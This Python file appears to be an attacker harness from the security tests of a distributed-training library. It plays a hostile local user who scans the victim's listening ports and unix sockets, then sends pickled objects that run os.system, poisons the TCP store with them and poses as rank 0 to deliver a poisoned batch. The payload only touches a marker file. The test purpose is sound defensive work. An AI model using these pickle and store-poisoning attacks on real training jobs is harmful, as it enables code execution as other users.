"""Another user of the host, who tries to run code as the user of a run: `python attacker.py FOLDER HOST...`.

In whatever the run opens it takes the part of rank 0, plants values and sends pickles. Of what it reached it keeps a
list in FOLDER/reached. HOSTs are the addresses to try. To be started in a network of its own: it attacks all it finds.
"""

from __future__ import annotations

import json
import multiprocessing
import multiprocessing.popen_fork  # all imports come first: later this user may not read the files
import os
import pickle
import socket
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch
import torch.distributed as dist
from torch import nn

import paceline as pl
from paceline.comm import host_link, process_group  # noqa: F401
from paceline.comm.shared_memory import communicator  # noqa: F401
from paceline.data.feeds import coordinated  # noqa: F401

NOBODY = 65534
VICTIM = 0
LISTENING = "0A"


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.marker}",)


def train(data: object, collate_fn: object = None) -> None:
    with pl.Trainer.setup(
        lambda: nn.Linear(4, 1),
        lambda parameters: torch.optim.SGD(parameters, lr=0.1),
        data=data,
        loading=pl.Loading(collate_fn=collate_fn, feed="dispatched"),
        global_batch=8,
        micro_batch=2,
        runtime=pl.Runtime(timeout_s=5.0),
    ) as trainer:
        for epoch in trainer.epochs(1):
            for batch in epoch:
                if isinstance(batch, torch.Tensor):
                    trainer.backward(trainer.model(batch).sum())
                trainer.step()


def open_ports() -> set[int]:
    """TCP ports on which processes of the victim listen, in this network."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENING and int(fields[7]) == VICTIM:
                found.add(int(fields[1].rpartition(":")[2], 16))
    return found


def unix_names() -> set[str]:
    lines = Path("/proc/net/unix").read_text().splitlines()
    return {line.split("@")[1] for line in lines if "@paceline-" in line}


def be_rank_0(host: str, port: int, marker: Path) -> None:
    """Lead the other worker, and hand it the payload as its batch."""

    class Poisoned:
        def __len__(self) -> int:
            return 8

        def __getitem__(self, index: int) -> object:
            return Payload(marker)

    os.environ.pop("PACELINE_STORE", None)
    os.environ.update(RANK="0", WORLD_SIZE="2", LOCAL_RANK="0", LOCAL_WORLD_SIZE="2", MASTER_ADDR=host)
    os.environ.update(MASTER_PORT=str(port), TORCHELASTIC_USE_AGENT_STORE="True", TORCHELASTIC_RESTART_COUNT="0")
    train(Poisoned(), lambda samples: samples[0])


def plant(host: str, port: int, marker: Path) -> None:
    """Replace whatever lies in the store."""
    store = dist.TCPStore(host, port, timeout=timedelta(seconds=1), wait_for_workers=False)
    for key in store.list_keys() if hasattr(store, "list_keys") else []:
        store.set(key, pickle.dumps(Payload(marker)))


def send_pickles(address: object, family: int, marker: Path) -> None:
    with socket.socket(family) as connection:
        connection.settimeout(1.0)
        connection.connect(address)
        connection.sendall(bytes(4) + pickle.dumps(Payload(marker)))
        connection.recv(100)


def attempt(number: int, hosts: list[str], port: int, marker: Path) -> None:
    for host in hosts:
        for attack in (plant, be_rank_0) if number % 2 else (be_rank_0, plant):
            try:
                attack(host, port, marker)
            except Exception as error:
                with (marker.parent / "log").open("a") as log:
                    log.write(f"{attack.__name__} {port}: {type(error).__name__}: {error}\n")
        with suppress(OSError):
            send_pickles((host, port), socket.AF_INET, marker)


def main(folder: Path, hosts: list[str]) -> None:
    train(torch.zeros(8, 4))
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    os.chdir("/")
    marker = folder / "harm"
    reached: dict[str, list[object]] = {"ports": [], "unix": [], "files": []}
    running: dict[int, multiprocessing.Process] = {}
    number = 0
    (folder / "ready").touch()
    while not (folder / "stop").exists():
        for port in open_ports():
            if port not in running or not running[port].is_alive():
                number += 1
                process = multiprocessing.get_context("fork").Process(
                    target=attempt, args=(number, hosts, port, marker), daemon=True
                )
                process.start()
                running[port] = process
                reached["ports"].append(port)
        for name in unix_names():
            with suppress(OSError):
                send_pickles(f"\0{name}", socket.AF_UNIX, marker)
            reached["unix"].append(name)
        for path in Path(os.environ["TMPDIR"]).glob("paceline-launch-*"):
            with suppress(OSError):
                reached["files"] += [str(file) for file in path.iterdir()]
        (folder / "reached").write_text(json.dumps(reached))
        time.sleep(0.02)
    for process in running.values():
        process.kill()
        process.join()


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
